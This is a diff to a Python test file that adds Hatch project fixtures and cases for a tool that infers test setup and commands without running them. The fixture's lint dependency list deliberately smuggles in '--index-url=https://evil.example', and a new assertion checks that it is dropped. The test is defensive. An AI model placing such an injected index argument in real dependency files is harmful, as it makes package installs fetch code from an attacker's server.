@@ -86,6 +86,22 @@ def tests(session):
     session.install("-e", ".[test]", "pytest")
     session.run("pytest", "--strict", *session.posargs)
 """
+HATCH = """\
+[tool.hatch.envs.default]
+dependencies = ["coverage[toml]>=6.5", "pytest"]
+[tool.hatch.envs.default.scripts]
+test = "pytest {args:tests}"
+test-cov = "coverage run -m pytest {args:tests}"
+cov-report = ["- coverage combine", "coverage report"]
+cov = ["test-cov", "cov-report"]
+[tool.hatch.envs.lint]
+detached = true
+dependencies = ["ruff>=0.1", "--index-url=https://evil.example"]
+[tool.hatch.envs.lint.scripts]
+style = "ruff check {args:.}"
+[tool.hatch.envs.hatch-test]
+extra-dependencies = ["attrs"]
+"""
 
 
 @pytest.mark.parametrize(
@@ -96,6 +112,16 @@ def tests(session):
         ({"tox.ini": TOX}, "tox -e lint", "ruff", [".venv/bin/ruff check src"]),
         ({"pyproject.toml": TOX_TOML}, "tox run", "-e . --group tests", [".venv/bin/pytest -x"]),
         ({"noxfile.py": NOX}, "nox -s tests", "-e '.[test]' pytest", [".venv/bin/pytest --strict"]),
+        ({"pyproject.toml": HATCH}, "hatch run test", "-e . 'coverage[toml]>=6.5' pytest",
+         [".venv/bin/pytest tests"]),
+        ({"pyproject.toml": HATCH}, "hatch run cov", "-e . 'coverage[toml]>=6.5' pytest",
+         [".venv/bin/coverage run -m pytest tests"]),
+        ({"pyproject.toml": HATCH}, "hatch run lint:style", "-q 'ruff>=0.1'", [".venv/bin/ruff check ."]),
+        ({"hatch.toml": HATCH.replace("tool.hatch.", "")}, "hatch -e lint run style", "-q 'ruff>=0.1'",
+         [".venv/bin/ruff check ."]),
+        ({"pyproject.toml": HATCH}, "hatch run pytest -x", "-e . 'coverage[toml]>=6.5' pytest",
+         [".venv/bin/pytest -x"]),
+        ({"pyproject.toml": HATCH}, "hatch test", "attrs", [".venv/bin/pytest"]),
         ({"uv.lock": ""}, "uv run --locked --group dev pytest", "/uv sync --locked --group dev", [".venv/bin/pytest"]),
         ({"poetry.lock": ""}, "poetry install --with dev\npoetry run pytest", "/poetry install", [".venv/bin/pytest"]),
         (
@@ -110,6 +136,7 @@ def test_runners_are_read_and_not_run(
     steps = "- run: |\n" + "".join(f"    {line}\n" for line in run.splitlines())
     detected = found({**files, "tests/x.txt": ""}, workflow(steps))
     assert install in setup(detected)
+    assert "evil" not in setup(detected)
     assert commands(detected) == checks
 
 
